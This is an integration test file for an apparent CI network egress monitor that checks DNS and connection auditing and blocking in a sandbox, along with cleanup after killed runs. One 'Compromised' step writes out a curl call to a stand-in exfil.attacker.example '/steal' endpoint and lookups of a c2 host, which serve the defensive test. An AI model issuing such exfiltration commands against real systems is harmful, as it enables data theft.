package dev.runwall.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.runwall.core.event.DnsEvent;
import dev.runwall.core.event.Event;
import dev.runwall.core.event.Verdict;
import dev.runwall.core.report.Report;
import dev.runwall.core.report.ReportJson;
import dev.runwall.linux.audit.AuditClient;
import dev.runwall.sandbox.ExecResult;
import dev.runwall.sandbox.Sandbox;
import dev.runwall.sandbox.SandboxTestKit;
import dev.runwall.sandbox.Zone;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code runwall run} end to end in a network sandbox, asserting on the JSON report and the query log. */
class RunIT {
    private static Sandbox sandbox;
    @TempDir Path tmp;

    @BeforeAll
    static void up() throws Exception {
        sandbox = SandboxTestKit.up("runit", Zone.parse("""
                hosts:
                  - name: api.nuget.org
                    ipv4: 198.18.1.10
                    ipv6: fd52:7761:6c6c::10
                    tcp: [80, 443]
                  - name: exfil.attacker.example
                    ipv4: 198.18.66.6
                    tcp: [80, 443]
                  - name: cdn.other.example
                    ipv4: 198.18.2.20
                    tcp: [80]
                  - name: c2.attacker.example
                    ipv4: 198.18.66.7
                    ipv6: fd52:7761:6c6c::66:7
                cnames:
                  - name: www.nuget.org
                    target: api.nuget.org
                  - name: assets.nuget.org
                    target: cdn.other.example
                records:
                  - name: nuget.org
                    type: TXT
                    data: '"v=spf1 -all"'
                """, "runit-zone.yml"));
    }

    @AfterAll
    static void down() {
        if (sandbox != null) {
            sandbox.down();
        }
    }

    private Path steps(String yaml) throws Exception {
        Path f = tmp.resolve("steps-" + System.nanoTime() + ".yml");
        Files.writeString(f, yaml);
        return f;
    }

    private static List<DnsEvent> dns(Report r, String domain) {
        return r.events().stream().filter(e -> e instanceof DnsEvent d && d.domain().equals(domain))
                .map(DnsEvent.class::cast).toList();
    }

    @Test
    void auditRecordsEveryQueryWithItsStepProcessAndVerdict() throws Exception {
        Path out = tmp.resolve("audit");
        ExecResult r = RunwallProcess.run(sandbox, "run", "--job", "build", "--report-dir", out.toString(),
                "--steps", steps("""
                        - name: Restore packages
                          run: getent ahostsv4 api.nuget.org
                        - name: Build
                          run: |
                            dig +short www.nuget.org A
                            dig +tcp +short nuget.org TXT
                            dig +short c2.attacker.example AAAA
                        """).toString());
        assertThat(r.exitCode()).as(r.describe()).isZero();
        Report report = ReportJson.read(out.resolve("report.json"));
        assertThat(report.job().egressPolicy()).isEqualTo("audit");
        assertThat(report.job().name()).isEqualTo("build");
        assertThat(report.steps()).extracting(s -> s.id() + ":" + s.name() + ":" + s.exitCode())
                .containsExactly("step-1:Restore packages:0", "step-2:Build:0");

        assertThat(dns(report, "api.nuget.org")).isNotEmpty().allSatisfy(e -> {
            assertThat(e.step()).isEqualTo("step-1");
            assertThat(e.verdict()).isEqualTo(Verdict.AUDITED);
            assertThat(e.process().exe()).isEqualTo("/usr/bin/getent");
            assertThat(e.process().parents()).extracting(p -> p.name()).contains("bash");
        });
        assertThat(dns(report, "www.nuget.org")).singleElement().satisfies(e -> {
            assertThat(e.step()).isEqualTo("step-2");
            assertThat(e.process().exe()).isEqualTo("/usr/bin/dig");
            assertThat(e.transport()).isEqualTo("udp");
            assertThat(e.answers()).extracting(a -> a.type() + " " + a.data())
                    .containsExactly("CNAME api.nuget.org.", "A 198.18.1.10");
        });
        assertThat(dns(report, "nuget.org")).singleElement().satisfies(e -> {
            assertThat(e.transport()).isEqualTo("tcp");
            assertThat(e.qtype()).isEqualTo("TXT");
            assertThat(e.step()).isEqualTo("step-2");
        });
        assertThat(dns(report, "c2.attacker.example")).singleElement().satisfies(e -> {
            assertThat(e.verdict()).isEqualTo(Verdict.AUDITED);
            assertThat(e.rcode()).isEqualTo("NOERROR");
            assertThat(e.answers()).extracting(a -> a.data()).containsExactly("fd52:7761:6c6c::66:7");
        });
        assertThat(sandbox.queryLog().contains("c2.attacker.example")).as("audit forwards everything").isTrue();
        assertThat(report.loss().unattributed()).isZero();
        String summary = Files.readString(out.resolve("summary.md"));
        assertThat(summary).contains("### Step: Restore packages (exit 0)", "### Step: Build (exit 0)",
                "www.nuget.org", "dig (/usr/bin/dig)");
        assertThat(Files.readAllLines(out.resolve("events.jsonl"))).isNotEmpty()
                .allSatisfy(line -> assertThat(line).startsWith("{\"kind\":"));
        long udpQueries = report.events().stream().filter(e -> e instanceof DnsEvent d && d.transport().equals("udp"))
                .count();
        var stopped = dev.runwall.agent.eventlog.EventLogReader.read(out.resolve("events.jsonl")).events().stream()
                .filter(e -> e instanceof dev.runwall.core.event.AgentEvent a && a.action().equals("stopped"))
                .map(e -> ((dev.runwall.core.event.AgentEvent) e).counters()).findFirst().orElseThrow();
        assertThat(stopped.get("dnsClientLookups")).as("every UDP asker looked up").isEqualTo(udpQueries);
        assertThat(stopped.get("dnsClientBatches")).isBetween(1L, udpQueries);
        assertThat(stopped).containsKeys("dnsClientDumps", "dnsClientExactLookups")
                .containsEntry("dnsClientBatchFailures", 0L);
    }

    @Test
    void blockAnswersNxdomainOutsideThePolicyAndTheNameNeverLeaves() throws Exception {
        Path out = tmp.resolve("block");
        ExecResult r = RunwallProcess.run(sandbox, "run", "--egress-policy", "block", "--allowed-endpoints",
                "www.nuget.org:443, assets.nuget.org", "--report-dir", out.toString(), "--steps", steps("""
                        - name: Allowed
                          run: |
                            test "$(dig +short www.nuget.org A | tail -n1)" = 198.18.1.10
                            test "$(dig +short www.nuget.org AAAA | tail -n1)" = fd52:7761:6c6c::10
                            test "$(dig +tcp +short www.nuget.org A | tail -n1)" = 198.18.1.10
                            test "$(dig +short assets.nuget.org A | tail -n1)" = 198.18.2.20
                        - name: Compromised
                          run: |
                            dig exfil.attacker.example A | grep -q 'status: NXDOMAIN'
                            dig +tcp exfil.attacker.example TXT | grep -q 'status: NXDOMAIN'
                            dig api.nuget.org A | grep -q 'status: NXDOMAIN'
                            dig cdn.other.example A | grep -q 'status: NXDOMAIN'
                            curl -sS --max-time 5 http://exfil.attacker.example/steal
                        """).toString());
        assertThat(r.exitCode()).as("curl fails to resolve: exit 6\n" + r.describe()).isEqualTo(6);
        assertThat(r.stderr()).contains("blocked DNS lookup of exfil.attacker.example", "step 'Compromised'");
        Report report = ReportJson.read(out.resolve("report.json"));
        assertThat(report.steps()).extracting(s -> s.exitCode()).containsExactly(0, 6);

        assertThat(dns(report, "exfil.attacker.example")).hasSizeGreaterThanOrEqualTo(3).allSatisfy(e -> {
            assertThat(e.verdict()).isEqualTo(Verdict.BLOCKED);
            assertThat(e.rcode()).isEqualTo("NXDOMAIN");
            assertThat(e.step()).isEqualTo("step-2");
            assertThat(e.reason()).contains("not in allowed-endpoints");
        });
        assertThat(dns(report, "exfil.attacker.example")).extracting(DnsEvent::transport).contains("udp", "tcp");
        assertThat(dns(report, "exfil.attacker.example")).extracting(e -> e.process().exe())
                .contains("/usr/bin/dig", "/usr/bin/curl");
        assertThat(dns(report, "api.nuget.org")).as("a CNAME target is not allowed by its own name")
                .allSatisfy(e -> assertThat(e.verdict()).isEqualTo(Verdict.BLOCKED));
        assertThat(dns(report, "www.nuget.org")).hasSize(3).allSatisfy(e -> {
            assertThat(e.verdict()).isEqualTo(Verdict.ALLOWED);
            assertThat(e.rcode()).isEqualTo("NOERROR");
        });
        assertThat(dns(report, "assets.nuget.org")).singleElement().satisfies(e -> {
            assertThat(e.verdict()).isEqualTo(Verdict.ALLOWED);
            assertThat(e.reason()).contains("cdn.other.example");
        });
        assertThat(sandbox.queryLog().contains("exfil.attacker.example")).as("blocked names never leave").isFalse();
        assertThat(sandbox.queryLog().queriesFor("cdn.other.example")).as("nor blocked CNAME targets by name").isEmpty();
        assertThat(Files.readString(out.resolve("summary.md"))).contains("> Blocked exfil.attacker.example in step Compromised");
    }

    /** Kernel flows joined with the audited syscall that made them: process and step of every connection. */
    @Test
    void connectionsCarryTheirProcessAndStepInAuditAndBlockMode() throws Exception {
        for (String mode : List.of("audit", "block")) {
            Path out = tmp.resolve("flows-" + mode);
            ExecResult r = RunwallProcess.run(sandbox, "run", "--egress-policy", mode, "--allowed-endpoints",
                    "api.nuget.org:80", "--report-dir", out.toString(), "--steps", steps("""
                            - name: Fetch
                              run: curl -fsS --max-time 5 http://api.nuget.org/ >/dev/null
                            - name: Raw IP
                              run: curl -sS --max-time 5 http://198.18.66.6/ >/dev/null || true
                            """).toString());
            assertThat(r.exitCode()).as(mode + "\n" + r.describe()).isZero();
            Report report = ReportJson.read(out.resolve("report.json"));
            List<dev.runwall.core.event.ConnectionEvent> flows = report.events().stream()
                    .filter(e -> e instanceof dev.runwall.core.event.ConnectionEvent)
                    .map(dev.runwall.core.event.ConnectionEvent.class::cast).toList();
            assertThat(flows).as(mode).filteredOn(c -> "api.nuget.org".equals(c.domain()) && c.port() == 80)
                    .isNotEmpty().allSatisfy(c -> {
                        assertThat(c.step()).isEqualTo("step-1");
                        assertThat(c.ip()).isIn("198.18.1.10", "fd52:7761:6c6c::10"); // curl may prefer IPv6
                        assertThat(c.process()).isNotNull();
                        assertThat(c.process().exe()).isEqualTo("/usr/bin/curl");
                        assertThat(c.verdict()).isEqualTo(mode.equals("audit") ? Verdict.AUDITED : Verdict.ALLOWED);
                    });
            assertThat(flows).as(mode).filteredOn(c -> c.ip().equals("198.18.66.6")).isNotEmpty().allSatisfy(c -> {
                assertThat(c.step()).isEqualTo("step-2");
                assertThat(c.process().exe()).isEqualTo("/usr/bin/curl");
                assertThat(c.verdict()).isEqualTo(mode.equals("audit") ? Verdict.AUDITED : Verdict.BLOCKED);
            });
        }
    }

    @Test
    void failOnBlockExitsFiveWhenStepsSucceed() throws Exception {
        ExecResult r = RunwallProcess.run(sandbox, "run", "--egress-policy", "block", "--fail-on-block",
                "--report-dir", tmp.resolve("fob").toString(), "--step", "probe", "--",
                "dig", "+short", "exfil.attacker.example");
        assertThat(r.exitCode()).as(r.describe()).isEqualTo(ExitCodes.BLOCKED);
        Report report = ReportJson.read(tmp.resolve("fob/report.json"));
        assertThat(report.steps()).singleElement().satisfies(s -> assertThat(s.name()).isEqualTo("probe"));
        assertThat(report.anyBlocked()).isTrue();
    }

    @Test
    void badPolicyIsExitTwoNamingTheEntry() {
        ExecResult r = RunwallProcess.run(sandbox, "run", "--egress-policy", "block", "--allowed-endpoints",
                "api.nuget.org:443 bad.example:99999", "--report-dir", tmp.resolve("bad").toString(), "--", "true");
        assertThat(r.exitCode()).isEqualTo(ExitCodes.INVALID_INPUT);
        assertThat(r.stderr()).contains("allowed-endpoints entry 2 'bad.example:99999': port 99999 is out of range");
        assertThat(tmp.resolve("bad/events.jsonl")).doesNotExist();
    }

    @Test
    void resolverConfigurationIsRestoredAfterStop() throws Exception {
        Path resolv = Path.of("/etc/netns", sandbox.runnerNamespace(), "resolv.conf");
        String before = Files.readString(resolv);
        ExecResult r = RunwallProcess.run(sandbox, "run", "--report-dir", tmp.resolve("restore").toString(), "--",
                "cat", "/etc/resolv.conf");
        assertThat(r.exitCode()).as(r.describe()).isZero();
        assertThat(r.stdout()).as("while running, the runner resolves through the agent")
                .contains("nameserver 127.0.0.1").doesNotContain(before.strip());
        assertThat(Files.readString(resolv)).isEqualTo(before);
    }

    /**
     * A block-mode agent has no supervisor (block is fail-closed), so after SIGKILL its redirect stays; the
     * next start restores the runner's own configuration first. (Audit mode's supervisor: FailModeIT.)
     */
    @Test
    void resolverConfigurationIsRestoredOnTheNextStartAfterAKilledAgent() throws Exception {
        Path resolv = Path.of("/etc/netns", sandbox.runnerNamespace(), "resolv.conf");
        String before = Files.readString(resolv);
        Process agent = blockRunWithASleepingStep(RunwallProcess.killedRunTemp(tmp), "killed");
        try {
            assertThat(Files.readString(resolv)).contains("nameserver 127.0.0.1");
            // 'ip netns exec' execs the command: the process we started is the runwall JVM itself
            new ProcessBuilder("kill", "-KILL", Long.toString(agent.pid())).start().waitFor();
            agent.waitFor();
            Thread.sleep(3000); // longer than any supervisor would take: nothing may restore it now
            assertThat(Files.readString(resolv)).as("killed in block mode: still redirected").contains("nameserver 127.0.0.1");
        } finally {
            agent.destroyForcibly().waitFor();
        }
        ExecResult again = RunwallProcess.run(sandbox, "run", "--report-dir", tmp.resolve("again").toString(), "--", "true");
        assertThat(again.exitCode()).as(again.describe()).isZero();
        assertThat(Files.readString(resolv)).isEqualTo(before);
        assertThat(Files.readString(tmp.resolve("again/events.jsonl"))).contains("restored the resolver configuration");
    }

    /**
     * SIGTERM (a cancelled job, a user's kill) ends the JVM without the run's finally block: the shutdown hook
     * must take out what the run put in. Block mode, so no supervisor does it instead.
     */
    @Test
    void aTerminatedRunTakesOutItsRulesItsTableItsResolverAndItsScratchFolder() throws Exception {
        Path resolv = Path.of("/etc/netns", sandbox.runnerNamespace(), "resolv.conf");
        String before = Files.readString(resolv);
        Path temp = Files.createDirectories(tmp.resolve("java-tmp"));
        Process run = blockRunWithASleepingStep(List.of("-Djava.io.tmpdir=" + temp), "terminated");
        List<ProcessHandle> steps = List.of();
        try {
            assertThat(Files.readString(resolv)).contains("nameserver 127.0.0.1");
            assertThat(AgentSession.tables(sandbox)).contains("table inet runwall");
            assertThat(ourAuditRules(run.pid())).as("the run's audit rules are loaded").isNotEmpty();
            assertThat(scratchFolders(temp)).as("the run's scratch folder").hasSize(1);
            steps = run.toHandle().descendants().toList();
            // 'ip netns exec' execs the command: the process we started is the runwall JVM itself
            new ProcessBuilder("kill", "-TERM", Long.toString(run.pid())).start().waitFor();
            assertThat(run.waitFor(30, TimeUnit.SECONDS)).as("the run ends on SIGTERM").isTrue();
            String log = Files.readString(tmp.resolve("terminated.log"));
            assertThat(Files.readString(resolv)).as(log).isEqualTo(before);
            assertThat(AgentSession.tables(sandbox)).as(log).doesNotContain("table inet runwall");
            assertThat(ourAuditRules(run.pid())).as(log).isEmpty();
            assertThat(scratchFolders(temp)).as(log).isEmpty();
        } finally {
            run.destroyForcibly().waitFor();
            steps.forEach(ProcessHandle::destroyForcibly);
        }
    }

    /**
     * Starts {@code runwall run --egress-policy block} (with {@code jvmOptions}, report in {@code name}, output in
     * {@code name.log}) whose one step marks its start and sleeps a minute; returns once the step runs.
     */
    private Process blockRunWithASleepingStep(List<String> jvmOptions, String name) throws Exception {
        Path marker = tmp.resolve(name + "-started");
        Path log = tmp.resolve(name + ".log");
        Process run = sandbox.processBuilder(RunwallProcess.command(jvmOptions, "run", "--egress-policy", "block",
                        "--report-dir", tmp.resolve(name).toString(), "--",
                        "bash", "-c", "touch " + marker + "; sleep 60"))
                .redirectErrorStream(true).redirectOutput(log.toFile()).start();
        try {
            long deadline = System.nanoTime() + 60_000_000_000L;
            while (!Files.exists(marker) && System.nanoTime() < deadline && run.isAlive()) {
                Thread.sleep(50);
            }
            assertThat(marker).as(Files.readString(log)).exists();
            return run;
        } catch (Exception | AssertionError e) {
            run.destroyForcibly().waitFor();
            throw e;
        }
    }

    /** The scratch folders of runs ({@code runwall-run…}) in {@code temp}. */
    private static List<Path> scratchFolders(Path temp) throws Exception {
        try (var children = Files.list(temp)) {
            return children.filter(p -> p.getFileName().toString().startsWith("runwall-run")).toList();
        }
    }

    /** The audit rules whose key names the runwall process {@code pid} (runwall:PID:START). */
    private static List<String> ourAuditRules(long pid) throws Exception {
        try (AuditClient client = AuditClient.open()) {
            return client.listRules().stream().flatMap(r -> r.key().stream())
                    .filter(k -> k.startsWith("runwall:" + pid + ":")).toList();
        }
    }
}
